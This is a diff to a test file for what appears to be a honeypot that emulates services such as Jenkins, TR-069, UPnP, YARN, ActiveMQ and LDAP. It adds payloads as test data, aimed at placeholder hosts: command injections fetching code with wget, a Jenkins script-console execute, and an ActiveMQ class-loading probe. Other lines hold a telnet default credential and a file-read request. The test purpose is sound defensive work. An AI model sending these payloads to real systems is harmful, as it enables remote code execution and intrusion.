@@ -29,6 +29,10 @@ PLACE = f"{POD.namespace}/{POD.name}/{POD.container}".encode()
 
 # What leads a room through its stages, in order; each piece ends where a new stage begins.
 OPENINGS: dict[str, tuple[bytes, ...]] = {
+    "activemq": (
+        b"\0\0\0\x0a", b"\x0a" + bytes(9), b"\0\0\0\x1f\x1f" + bytes(9), b"\1\1\0\5a.b.c\1\0\x09http://a/",
+        b"\0\0\0\x08\3\0\0\0\1\1\1\x78",
+    ),
     "adb": (
         CONNECT, frame(b"OPEN", 1, 0, b"sync:\0"), frame(b"WRTE", 1, 1, b"SEND\x09\0\0\0/data"),
         frame(b"WRTE", 1, 1, b"/f,7DATA\x09\0\0\0abc")[:-2],
@@ -56,11 +60,20 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"de\r\n",
         b"4 SELECT INBOX\r\n", b"5 FETCH 1:* (FLAGS BODY[])\r\n", b"6 IDLE\r\n",
     ),
+    "jenkins": (
+        b"POST /scriptText HTTP/1.1\r\nHost: a\r\nContent-Length: 36\r\n\r\n", b"script='wget",
+        b"%20http://a/b'.execute()", b"GET /script HTTP/1.1\r\n\r\n",
+        b"POST /cli HTTP/1.1\r\nSession: a\r\nSide: download\r\n\r\n",
+    ),
     "kubelet": (
         b"GET /pods HTTP/1.1\r\nHost: a\r\n\r\n",
         b"POST /run/%s HTTP/1.1\r\nHost: a\r\nContent-Length: 10\r\n\r\n" % PLACE, b"cmd=id+-un",
         b"GET /exec/%s?command=sh&tty=1 HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: a\r\n\r\n" % PLACE,
         b"\x82\x8a\0\0\0\0\0", b"wget a/b\r",
+    ),
+    "ldap": (
+        b"\x30\x0c\2\1\1", b"\x60\x07\2\1\3\4\0\x80\0", b"\x30\x84\0\0\0\x1d",
+        b"\2\1\2\x63\x18\4\0\x0a\1\2\x0a\1\0\2\1\0", b"\2\1\0\1\1\0\x87\1a\x30\0",
     ),
     "memcached": (
         b"get a b\r\n", b"set a 0 0 5\r\n", b"abc", b"de\r\n", b"\x80\x01\0\x01\x08\0\0\0\0\0\0\x0c" + bytes(12),
@@ -89,6 +102,18 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
     ),
     "ssh": tuple(ssh_client.opening(Table(load("ssh")(visit(host=HOST))).open())),
     "telnet": (b"\xff\xfd\x01", b"root\r\n", b"xc3511\r\n", b"sh\n", b"echo -e '\\x41", b"'\n", b"wget http://a/b\n"),
+    "tr069": (
+        b"POST /UD/act?1 HTTP/1.1\r\nSOAPAction: a#SetNTPServers\r\nContent-Length: 48\r\n\r\n",
+        b"<NewNTPServer1>`wget", b" http://a/b`</NewNTPServer1>", b"GET /tr069 HTTP/1.1\r\n\r\n",
+    ),
+    "upnp": (
+        b"POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: a#AddPortMapping\r\nContent-Length: 56\r\n\r\n",
+        b"<NewInternalClient>`wget", b" http://a/b`</NewInternalClient>", b"GET /wanipcn.xml HTTP/1.1\r\n\r\n",
+    ),
+    "yarn": (
+        b"POST /ws/v1/cluster/apps HTTP/1.1\r\nContent-Length: 67\r\n\r\n", b'{"am-container-spec":{"commands":',
+        b'{"command":"wget http://a/b;id"}}}', b"GET /ws/v1/cluster/apps HTTP/1.1\r\n\r\n",
+    ),
 }  # fmt: skip
 # Of what a test sends at random, much is what these rooms listen to.
 WORDS = [
@@ -105,6 +130,14 @@ WORDS = [
     b'{"Image":"alpine","Cmd":["wget","http://a/b"]}', b"POST /run/%s?cmd=wget+a/b HTTP/1.1\r\nHost: a\r\n\r\n" % PLACE,
     b"GET /exec/%s?command=sh&tty=1 HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: a\r\n\r\n" % PLACE,
     b"\x82\x85\0\0\0\0\0id\r\n", b"set a 0 0 5\r\n", b"stats\r\n", b"\0\1\0\0\0\1\0\0stats\r\n",
+    b"POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: a#AddPortMapping\r\nContent-Length: 25\r\n\r\n",
+    b"<NewInternalClient>`id`</",
+    b"M-SEARCH * HTTP/1.1\r\nST:ssdp:all\r\n\r\n", b"SUBSCRIBE /a HTTP/1.1\r\nCallback: <http://a/>\r\n\r\n",
+    b"POST /cli HTTP/1.1\r\nSession: a\r\nSide: upload\r\nContent-Length: 15\r\n\r\n", b"\0\0\0\x0a\0\0\x08who-am-i",
+    b"POST /script HTTP/1.1\r\nContent-Length: 33\r\n\r\n", b"script='wget+http://a/b'.execute()",
+    b"\0\0\0\x20\x1f" + bytes(10) + b"\1\0\5a.b.c\1\0\x0ahttp://a/b", b"\0\0\0\6\5\0\0\0\1\1",
+    b"\x30\x0c\2\1\1\x60\x07\2\1\3\4\0\x80\0", b"\x30\x1d\2\1\2\x63\x18\4\0\x0a\1\2\x0a\1\0\2\1\0\2\1\0\1\1\0",
+    b"\x87\1a\x30\0", b"\xa2\3\x87\1a", b"\x30\5\2\1\3\x42\0",
     b"EPSV\r\n", b"STOR x\r\n", b"LIST\r\n", b"ABOR\r\n", b"SITE CPFR /etc/passwd\r\n", b"AUTH TLS\r\n",
     b"\0\2a\0octet\0", b"\0\3\0\1abc", b"\0\1/etc/hostname\0octet\0blksize\x008\0",
     b"EHLO a\r\n", b"MAIL FROM:<;wget a/b;>\r\n", b"RCPT TO:<b>\r\n", b"DATA\r\n", b".\r\n", b"\r\n.",
@@ -122,7 +155,12 @@ WORDS = [
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
 NAMES = (*ROOMS, FRONT)
-SERVED = [(name, "tcp") for name in NAMES] + [("catchall", "udp"), ("memcached", "udp"), ("tftp", "udp")]
+SERVED = [(name, "tcp") for name in NAMES] + [
+    ("catchall", "udp"),
+    ("memcached", "udp"),
+    ("tftp", "udp"),
+    ("upnp", "udp"),
+]
 names = pytest.mark.parametrize("name", NAMES)
 bounded = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 
